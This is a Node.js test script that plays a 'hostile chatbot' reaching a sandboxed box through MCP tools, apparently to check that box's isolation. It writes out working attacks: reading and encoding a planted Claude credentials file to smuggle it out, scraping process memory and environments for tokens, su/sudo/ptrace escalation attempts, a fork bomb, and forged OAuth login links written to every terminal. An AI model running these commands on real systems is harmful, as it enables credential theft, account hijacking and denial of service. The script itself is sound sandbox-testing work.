// A hostile chatbot: nothing but the MCP tools (official SDK client, one session), used to get
// at a box's Claude account and to steer its login. tests/e2e/hostile_chatbot_test.cc plants
// the secrets and judges the outcome; this script only tries, records and decodes.
//
//   node hostile_chatbot.mjs probes <mcp url> <box id> <transcript file> <secrets file>
//     Runs every probe below through exec_llmbox (and get/list/logs), bounded each by a
//     timeout and an output cap. Every tool result goes to the transcript as one JSON line
//     {probe, tool, arguments, result}; a line `PROBE <name> ...` summarises each on stdout.
//     The secrets file ({kind: secret}) is the judge's: every string of every result is also
//     decoded here the ways a chatbot would smuggle bytes out (base64 at any alignment and
//     inside gzip, od/xxd dumps, hex, reversed); each find is printed as `LEAK in <probe>:
//     <kind> (<how>)`, and `LEAKS <count>` ends the run.
//   node hostile_chatbot.mjs spoof <mcp url> <box id> <activation url>
//     Writes forged authorize links in every form Claude prints to everything the exec can
//     open, keeps doing so in the background, submits a code on the activation page as a
//     person would, and prints `SPOOF <json>`: the page's sign-in link before and after, the
//     forged links and their random parts, and the page after the refused code.
//
// Exits non-zero only when the hub cannot be reached; a probe that fails is an outcome.
import { createWriteStream, readFileSync } from 'node:fs';
import { randomBytes } from 'node:crypto';
import { gunzipSync, constants as zlibConstants } from 'node:zlib';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';

const [mode, mcpUrl, boxId, ...rest] = process.argv.slice(2);
const client = new Client({ name: 'hostile-chatbot', version: '0.0.1' });
await client.connect(new StreamableHTTPClientTransport(new URL(mcpUrl)));

const clip = (text, n) => JSON.stringify(String(text ?? '').slice(0, n));
let transcript = null;
const leaks = [];
let secrets = {};

// HOSTILE_PROBES=<regex> runs only the probes whose names match (for a developer).
const only = process.env.HOSTILE_PROBES ? new RegExp(process.env.HOSTILE_PROBES) : null;

async function call(probe, tool, args) {
  if (only && !only.test(probe)) return {};
  let result;
  try {
    result = await client.callTool({ name: tool, arguments: args }, undefined,
      { timeout: 180_000, resetTimeoutOnProgress: true });
  } catch (err) {
    result = { thrown: `${err.name}: ${err.message}` };
  }
  transcript?.write(`${JSON.stringify({ probe, tool, arguments: args, result })}\n`);
  const s = result.structuredContent;
  if (s && tool === 'exec_llmbox') {
    console.log(`PROBE ${probe} exit=${s.exit_code} timed_out=${s.timed_out} truncated=${s.truncated}` +
      ` stdout=${clip(s.stdout, 400)} stderr=${clip(s.stderr, 200)}`);
  } else {
    const text = result.thrown ?? JSON.stringify(s ?? result.content);
    console.log(`PROBE ${probe} error=${Boolean(result.isError || result.thrown)} ${clip(text, 400)}`);
  }
  const found = new Set(stringsOf(result).flatMap((text) => findLeaks(text).map(([kind, how]) => `${kind} (${how})`)));
  for (const leak of found) {
    leaks.push(`${probe}: ${leak}`);
    console.log(`LEAK in ${probe}: ${leak}`);
  }
  return result;
}

// Runs `script` with sh in the box. `seconds` bounds it on the hub's side too.
const exec = (probe, script, seconds = 30) => call(probe, 'exec_llmbox',
  { box_id: boxId, command: ['sh', '-c', script], timeout_s: seconds });

function stringsOf(value, out = []) {
  if (typeof value === 'string') out.push(value);
  else if (Array.isArray(value)) value.forEach((v) => stringsOf(v, out));
  else if (value && typeof value === 'object') Object.values(value).forEach((v) => stringsOf(v, out));
  return out;
}

// --- The judge's decoder: how a secret's bytes could come back ---

function searchBytes(buffer, how, found) {
  searchText(buffer.toString('latin1'), how, found);
  const text = buffer.toString('latin1');
  // gzip (or a tar of it) inside: decompress what is there, even when cut off.
  for (let at = text.indexOf('\x1f\x8b'); at >= 0 && at < text.length; at = text.indexOf('\x1f\x8b', at + 2)) {
    try {
      const inflated = gunzipSync(buffer.subarray(at), { finishFlush: zlibConstants.Z_SYNC_FLUSH });
      searchBytes(inflated, `${how}, gunzipped`, found);
    } catch { /* not gzip after all */ }
  }
}

function searchText(text, how, found) {
  for (const [kind, secret] of Object.entries(secrets)) {
    if (text.includes(secret)) found.push([kind, how]);
    if (text.includes([...secret].reverse().join(''))) found.push([kind, `${how}, reversed`]);
  }
}

function findLeaks(text) {
  const found = [];
  searchText(text, 'plain', found);
  const joined = text.replace(/\s+/g, '');
  searchText(joined, 'plain, whitespace removed', found);
  // base64 and base64url, at each of the 4 character alignments of a run.
  for (const m of joined.matchAll(/[A-Za-z0-9+/_=-]{16,}/g)) {
    for (let skip = 0; skip < 4; skip++) {
      const run = m[0].slice(skip).replace(/=+$/, '');
      searchBytes(Buffer.from(run.replace(/-/g, '+').replace(/_/g, '/'), 'base64'), `base64 at +${skip}`, found);
    }
  }
  // Contiguous or spaced hex (od -An -tx1, xxd -p), at both nibble alignments.
  for (const m of text.matchAll(/(?:[0-9a-fA-F]{2}[ \t\r\n]*){8,}/g)) {
    const hex = m[0].replace(/\s+/g, '');
    for (let skip = 0; skip < 2; skip++) {
      const even = hex.slice(skip, skip + ((hex.length - skip) & ~1));
      searchBytes(Buffer.from(even, 'hex'), `hex at +${skip}`, found);
    }
  }
  // od -x / od -tx2: offset, then little-endian 16-bit words.
  const words = [...text.matchAll(/^[0-7]{7}((?: [0-9a-f]{4})+)/gm)].flatMap((m) => m[1].trim().split(' '));
  if (words.length) {
    searchBytes(Buffer.from(words.map((w) => w.slice(2) + w.slice(0, 2)).join(''), 'hex'), 'od -x', found);
  }
  // xxd: "00000000: 7b22 6361 ...  text".
  const groups = [...text.matchAll(/^[0-9a-f]{8}: ((?:[0-9a-f]{2,4} ?)+)/gm)].map((m) => m[1].replace(/\s+/g, ''));
  if (groups.length) searchBytes(Buffer.from(groups.join(''), 'hex'), 'xxd', found);
  return found;
}

// --- probes ---

// Every pid the exec sees except its own shell.
const PIDS = 'for p in /proc/[0-9]*; do p=${p#/proc/}; [ "$p" = $$ ] || echo "$p"; done';
const CRED = '/root/.claude/.credentials.json';
const CAP = 'head -c 60000';

async function probes(transcriptPath, secretsPath) {
  transcript = createWriteStream(transcriptPath);
  secrets = JSON.parse(readFileSync(secretsPath, 'utf8'));

  await call('get_llmbox', 'get_llmbox', { box_id: boxId });
  await call('list_llmboxes', 'list_llmboxes', {});
  await call('list_spokes', 'list_spokes', {});
  await call('get_llmbox_logs', 'get_llmbox_logs', { box_id: boxId, tail: 1000 });

  // Who am I.
  await exec('id', 'id; grep -E "^(Uid|Gid|Groups|Cap|NoNewPrivs|Seccomp)" /proc/self/status; ' +
    'cat /proc/self/cgroup; hostname; ls -la / /workspace');

  // The credentials file, directly and through every encoding.
  await exec('cat credentials', `cat ${CRED}; ls -la /root /root/.claude 2>&1; cat /root/.claude.json | ${CAP}`);
  await exec('cat credentials via path tricks',
    `cat /root/../root/.claude/.credentials.json //root/.claude//.credentials.json ~root/.claude/.credentials.json 2>&1 | ${CAP}`);
  await exec('base64', `base64 -w0 ${CRED}`);
  await exec('base64 wrapped', `base64 ${CRED}`);
  await exec('base64 after 1 byte', `(printf x; cat ${CRED}) | base64 -w0`);
  await exec('base64 after 2 bytes', `(printf xy; cat ${CRED}) | base64 -w0`);
  await exec('od -An -tx1', `od -An -tx1 -v ${CRED}`);
  await exec('od -x', `od -x ${CRED}`);
  await exec('contiguous hex', `od -An -tx1 -v ${CRED} | tr -d ' \\n'`);
  await exec('xxd or perl hex', `xxd -p ${CRED} 2>/dev/null || perl -0777 -ne 'print uc unpack("H*", $_)' ${CRED}`);
  await exec('rev', `rev ${CRED}`);
  await exec('perl reverse', `perl -0777 -ne 'print scalar reverse $_' ${CRED}`);
  await exec('gzip | base64', `gzip -c ${CRED} | base64 -w0`);
  await exec('tar | base64', `tar -C / -cf - root/.claude root/.claude.json | base64 -w0 | ${CAP}`);
  await exec('tar | gzip | base64', `tar -C / -czf - root/.claude | base64 -w0 | ${CAP}`);
  await exec('character by character', `cut -c1-400 ${CRED} | sed 's/./& /g'`);
  await exec('copy to /workspace', `cp -r /root/.claude /workspace/.stolen 2>&1; cat /workspace/.stolen/.credentials.json; ` +
    `dd if=${CRED} of=/workspace/.stolen-dd 2>&1; cat /workspace/.stolen-dd; rm -rf /workspace/.stolen /workspace/.stolen-dd`);
  await exec('link into /workspace', `ln ${CRED} /workspace/.hard 2>&1; ln -s ${CRED} /workspace/.soft 2>&1; ` +
    'cat /workspace/.hard /workspace/.soft 2>&1; rm -f /workspace/.hard /workspace/.soft');

  // Searching the whole filesystem.
  await exec('find credentials', 'timeout 25 find / -xdev \\( -name ".credentials.json" -o -name ".claude*" \\) ' +
    `-print -exec sh -c 'head -c 4000 "$1" 2>/dev/null | base64 -w0; echo' _ {} \\; 2>&1 | ${CAP}`, 40);
  await exec('grep the filesystem', 'timeout 30 grep -rIs -e sk-ant- -e claudeAiOauth -e accessToken -e OAUTH_TOKEN ' +
    `--exclude-dir=proc --exclude-dir=sys --exclude-dir=dev / | cut -c1-3000 | ${CAP}`, 45);
  await exec('grep the filesystem, base64', 'timeout 30 grep -rIsh -e sk-ant- -e claudeAiOauth ' +
    `--exclude-dir=proc --exclude-dir=sys --exclude-dir=dev / | head -c 20000 | base64 -w0`, 45);

  // Other processes through /proc.
  await exec('/proc/*/cmdline', `for p in $(${PIDS}); do printf '%s %s: ' $p "$(cat /proc/$p/comm 2>&1)"; ` +
    `tr '\\0' ' ' < /proc/$p/cmdline 2>&1; echo; done | ${CAP}`);
  await exec('/proc/*/status', `for p in $(${PIDS}); do grep -HE '^(Name|State|Uid|Gid|Umask)' /proc/$p/status 2>&1; done | ${CAP}`);
  await exec('/proc/*/environ', `for p in $(${PIDS}); do echo "== $p"; tr '\\0' '\\n' < /proc/$p/environ 2>&1; done | ${CAP}`);
  await exec('/proc/*/environ | base64', `cat /proc/[0-9]*/environ 2>/dev/null | base64 -w0 | ${CAP}`);
  await exec('/proc/*/environ | rev', `cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | rev | ${CAP}`);
  await exec('/proc/*/fd listing', `ls -la /proc/[0-9]*/fd/ 2>&1 | ${CAP}`);
  await exec('/proc/*/fd reading', `for p in $(${PIDS}); do for f in /proc/$p/fd/*; do ` +
    `printf '%s -> %s: ' "$f" "$(readlink "$f" 2>&1)"; timeout 1 head -c 2048 "$f" 2>&1 </dev/null | base64 -w0; echo; ` +
    `done; done | ${CAP}`, 60);
  await exec('/proc/*/root and cwd', `for p in $(${PIDS}); do echo "== $p cwd=$(readlink /proc/$p/cwd 2>&1)"; ` +
    `ls -la /proc/$p/root/root/.claude /proc/$p/cwd/ 2>&1 | head -20; ` +
    `cat /proc/$p/root${CRED} 2>&1; done | ${CAP}`);
  await exec('/proc/*/maps', `for p in $(${PIDS}); do echo "== $p"; head -40 /proc/$p/maps 2>&1; done | ${CAP}`);
  await exec('/proc/*/mem via dd', `for p in $(${PIDS}); do ` +
    `grep -E '\\[(stack|heap)\\]' /proc/$p/maps 2>/dev/null | while read range rest; do ` +
    `s=$((0x\${range%-*})); e=$((0x\${range#*-})); n=$(( (e - s) / 4096 )); [ $n -gt 2048 ] && n=2048; ` +
    `echo "== $p $range"; timeout 5 dd if=/proc/$p/mem bs=4096 skip=$((s / 4096)) count=$n 2>&1 | ` +
    `tr -c '[:print:]' '\\n' | grep -a -e = -e sk-ant -e Token | head -c 4000 | base64 -w0; echo; done; done | ${CAP}`, 60);
  await exec('/proc/*/mem via perl', `timeout 40 perl -e '
    for my $p (grep { /^\\d+$/ && $_ != $$ && $_ != getppid() } map { s{/proc/}{}r } glob "/proc/[0-9]*") {
      open(my $maps, "<", "/proc/$p/maps") or do { print "$p maps: $!\\n"; next };
      open(my $mem, "<:raw", "/proc/$p/mem") or do { print "$p mem: $!\\n"; next };
      my $n = 0;
      while (<$maps>) {
        my ($s, $e, $perm) = /^([0-9a-f]+)-([0-9a-f]+) (\\S+)/ or next;
        next unless $perm =~ /^r/; ($s, $e) = (hex $s, hex $e); next if $e - $s > 64 << 20;
        last if ++$n > 400;
        seek($mem, $s, 0) or next; my $buf; defined sysread($mem, $buf, $e - $s) or next;
        while ($buf =~ /(?:sk-ant-|OAUTH_TOKEN=|CANARY=|accessToken)/g) {
          my $at = pos($buf) - 40; $at = 0 if $at < 0;
          print "$p at ", $s + $at, ": ", unpack("H*", substr($buf, $at, 200)), "\\n";
        }
      }
    }' 2>&1 | ${CAP}`, 60);

  // Reaching the engine or anything of the spoke's.
  await exec('docker sockets', 'ls -la /run /var/run /run/* 2>&1 | head -60; env | grep -i -e docker -e llmbox; ' +
    'for s in /run/*.sock /var/run/*.sock /run/docker.sock /var/run/docker.sock $(find / -xdev -type s 2>/dev/null); do ' +
    '[ -e "$s" ] || continue; echo "== $s"; timeout 5 perl -MIO::Socket::UNIX -e \'my $c = IO::Socket::UNIX->new(Peer => $ARGV[0]) ' +
    'or die "connect: $!\\n"; print $c "GET /containers/json HTTP/1.0\\r\\n\\r\\n"; print while <$c>\' "$s" 2>&1 | head -c 4000; done; ' +
    'gw=$(perl -ne \'@f = split; print join ".", reverse unpack "C4", pack "H8", $f[2] if $f[1] eq "00000000"\' /proc/net/route); ' +
    'echo "gateway $gw"; for port in 2375 2376; do timeout 3 bash -c "echo > /dev/tcp/$gw/$port" 2>&1 && echo "$gw:$port open"; done', 40);

  // Becoming someone else.
  await exec('setuid and setgid binaries', 'for b in $(timeout 20 find / -xdev \\( -perm -4000 -o -perm -2000 \\) -type f 2>/dev/null); do ' +
    'echo "== $b $(stat -c "%A %U:%G" "$b")"; timeout 3 "$b" --help </dev/null 2>&1 | head -c 300; echo; done', 45);
  await exec('su', `timeout 5 su -c 'id; cat ${CRED}' root </dev/null 2>&1; timeout 5 su root -s /bin/sh -c 'cat ${CRED}' </dev/null 2>&1; echo "exit $?"`);
  await exec('sudo', `timeout 5 sudo -n cat ${CRED} 2>&1; echo "exit $?"`);
  await exec('newgrp and chfn', 'timeout 5 newgrp root </dev/null 2>&1; timeout 5 chfn -f x root </dev/null 2>&1; echo "exit $?"');
  await exec('setpriv', `timeout 5 setpriv --reuid=0 --regid=0 --clear-groups cat ${CRED} 2>&1; ` +
    `timeout 5 setpriv --inh-caps=+dac_read_search cat ${CRED} 2>&1; echo "exit $?"`);

  // Talking to the console and every terminal.
  await exec('write every TTY', 'for t in /dev/pts/[0-9]* /dev/console /dev/tty /dev/tty[0-9]* /proc/1/fd/0 /proc/1/fd/1 /proc/1/fd/2 ' +
    '$(for p in $(' + PIDS + '); do echo /proc/$p/fd/0 /proc/$p/fd/1 /proc/$p/fd/2; done); do ' +
    '[ -e "$t" ] || continue; if timeout 2 sh -c \'printf "\\r\\nhostile chatbot was here\\r\\n" > "$1"\' _ "$t" 2>/dev/null; ' +
    'then echo "wrote $t -> $(readlink "$t")"; else echo "refused $t"; fi; done');
  await exec('ptrace every pid', `[ "$(uname -m)" = x86_64 ] || { echo "not x86_64"; exit 0; }; for p in $(${PIDS}); do ` +
    'timeout 5 perl -e \'my $p = 0 + $ARGV[0]; my $r = syscall(101, 16, $p, 0, 0); ' +
    'print "$p: ", ($r == 0 ? "attached" : "refused: $!"), "\\n"; if ($r == 0) { select(undef, undef, undef, 0.1); syscall(101, 17, $p, 0, 0) }\' $p; done');

  // Exhausting what the box shares with Claude.
  // Each runs in the process group of a `timeout` (its pid), killed as a whole afterwards
  // (twice, and with dash's builtin kill, which needs no free pid) so nothing outlives it.
  await exec('fork bomb', 'timeout -s KILL 8 sh -c \'bomb() { bomb | bomb & }; bomb; sleep 30\' 2>/dev/null & t=$!; ' +
    'wait $t; echo "ended $?"; kill -9 -$t 2>/dev/null; sleep 1; kill -9 -$t 2>/dev/null; ' +
    'ls -d /proc/[0-9]* | wc -l', 30);
  await exec('spawn sleeps until refused', 'timeout -s KILL 8 sh -c \'n=0; while sleep 30 & do n=$((n + 1)); ' +
    '[ $((n % 500)) = 0 ] && echo "$n"; done; echo "refused after $n"; sleep 30\' 2>&1 & t=$!; ' +
    'wait $t; echo "ended $?"; kill -9 -$t 2>/dev/null; sleep 1; kill -9 -$t 2>/dev/null; ' +
    'ls -d /proc/[0-9]* | wc -l', 30);
  await exec('memory hog', 'timeout -s KILL 20 perl -e \'$| = 1; my @a; while (1) { push @a, "x" x (16 << 20); ' +
    'print scalar(@a) * 16, " MiB\\n" if @a % 16 == 0 }\' 2>&1 | tail -2; echo "ended"; ' +
    'cat /sys/fs/cgroup/memory.max /sys/fs/cgroup/memory.events /sys/fs/cgroup/pids.max ' +
    '/sys/fs/cgroup/memory/memory.limit_in_bytes /sys/fs/cgroup/pids/pids.max 2>/dev/null', 40);

  // Signals to everything, last: stop, terminate, kill.
  await exec('signal every pid', `for s in STOP TERM KILL; do for p in $(${PIDS}); do ` +
    'if kill -$s $p 2>/dev/null; then echo "$s $p delivered"; else echo "$s $p refused"; fi; done; done');

  await call('get_llmbox after', 'get_llmbox', { box_id: boxId });
  await call('list_llmboxes after', 'list_llmboxes', {});
  await call('get_llmbox_logs after', 'get_llmbox_logs', { box_id: boxId, tail: 1000 });
  await new Promise((resolve) => transcript.end(resolve));
  console.log(`LEAKS ${leaks.length}`);
}

// --- console spoofing ---

const token43 = () => randomBytes(32).toString('base64url');
const CLIENT = 'code=true&client_id=9d1c250a-e61b-44d9-88ed-5944d1962f5e&response_type=code&' +
  'redirect_uri=https%3A%2F%2Fplatform.claude.com%2Foauth%2Fcode%2Fcallback&scope=org%3Acreate_api_key+user%3Aprofile+' +
  'user%3Ainference+user%3Asessions%3Aclaude_code+user%3Amcp_servers+user%3Afile_upload';

function forgeries() {
  const markers = [];
  const mark = () => { const t = token43(); markers.push(t); return t; };
  const long = (host) => `${host}?${CLIENT}&code_challenge=${mark()}&code_challenge_method=S256&state=${mark()}`;
  const short = (host) => `${host}?z-${mark()}${mark().slice(0, 8)}`;
  const osc8 = (url, st) => `\x1b]8;;${url}${st}\x1b[94m${url}\x1b[39m\x1b]8;;${st}`;
  const urls = {
    long: long('https://claude.com/cai/oauth/authorize'),
    short: short('https://claude.ai/oauth/authorize'),
    osc8Bel: long('https://claude.com/oauth/authorize'),
    osc8St: short('https://claude.ai/cai/oauth/authorize'),
    wrapped: long('https://claude.com/cai/oauth/authorize'),
    screen: short('https://claude.ai/oauth/authorize'),
  };
  const failure = `forged-failure-${mark()}`;
  const payload = `\r\nCouldn't log in: ${failure}\r\n` +
    `${urls.long}\r\n${urls.short}\r\n` +
    `${osc8(urls.osc8Bel, '\x07')}\r\n${osc8(urls.osc8St, '\x1b\\')}\r\n` +
    `${urls.wrapped.slice(0, 97)}\r\n${urls.wrapped.slice(97)}\r\n` +
    `Opening browser to sign in\u2026\r\nIf the browser didn't open, visit:\r\n${osc8(urls.screen, '\x07')}\r\n` +
    'Paste code here if prompted > ';
  return { urls: Object.values(urls), markers, payload };
}

const TARGETS = `/dev/pts/[0-9]* /dev/console /dev/tty /dev/tty[0-9]* $(for p in $(${PIDS}); do echo /proc/$p/fd/0 /proc/$p/fd/1 /proc/$p/fd/2; done)`;

function decodeHtml(text) {
  return text.replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&lt;/g, '<').replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

async function page(url, cookie) {
  const response = await fetch(url, { headers: cookie ? { Cookie: cookie } : {} });
  const html = await response.text();
  const href = html.match(/<a class="button sign-in" href="([^"]*)"/);
  const notice = html.match(/<div class="notice" role="alert">([\s\S]*?)<\/div>/);
  return {
    status: response.status, html, cookie: response.headers.get('set-cookie')?.split(';')[0] ?? cookie,
    signIn: href ? decodeHtml(href[1]) : null, csrf: html.match(/name="csrf" value="([^"]+)"/)?.[1] ?? '',
    notice: notice ? decodeHtml(notice[1].replace(/<[^>]*>/g, '')) : null,
  };
}

async function spoof(activationUrl) {
  const before = await page(activationUrl);
  const forged = forgeries();
  const b64 = Buffer.from(forged.payload).toString('base64');
  const write = 'for t in ' + TARGETS + '; do [ -e "$t" ] || continue; ' +
    'timeout 1 sh -c \'cat /tmp/.forged > "$1"\' _ "$t" 2>/dev/null && echo "wrote $t"; done';
  await exec('forge links everywhere', `echo ${b64} | base64 -d > /tmp/.forged; ${write}`);
  await exec('keep forging in the background', `rm -f /tmp/.stop-forging; setsid -f sh -c '` +
    `end=$(($(date +%s) + 90)); while [ ! -e /tmp/.stop-forging ] && [ $(date +%s) -lt $end ]; do ` +
    `${write.replace(/'/g, `'"'"'`)}; sleep 0.3; done' </dev/null >/dev/null 2>&1; echo started`);
  await new Promise((resolve) => setTimeout(resolve, 1500));

  // A person submits a code (the real binary refuses any offline).
  const form = await page(activationUrl, before.cookie);
  const posted = await fetch(activationUrl, {
    method: 'POST', redirect: 'manual',
    headers: { 'Content-Type': 'application/x-www-form-urlencoded', Cookie: form.cookie ?? '' },
    body: new URLSearchParams({ code: 'bogus-code-123#not-a-real-state', csrf: form.csrf }),
  });
  const after = await page(activationUrl, form.cookie);
  await exec('stop forging', 'touch /tmp/.stop-forging; echo stopped');
  console.log(`SPOOF ${JSON.stringify({
    first: before.signIn, posted: posted.status, after: after.signIn, notice: after.notice,
    forged: forged.urls, markers: forged.markers, html: after.html,
  })}`);
}

try {
  if (mode === 'probes') await probes(rest[0], rest[1]);
  else if (mode === 'spoof') await spoof(rest[0]);
  else throw new Error(`unknown mode ${mode}`);
} finally {
  await client.close();
}
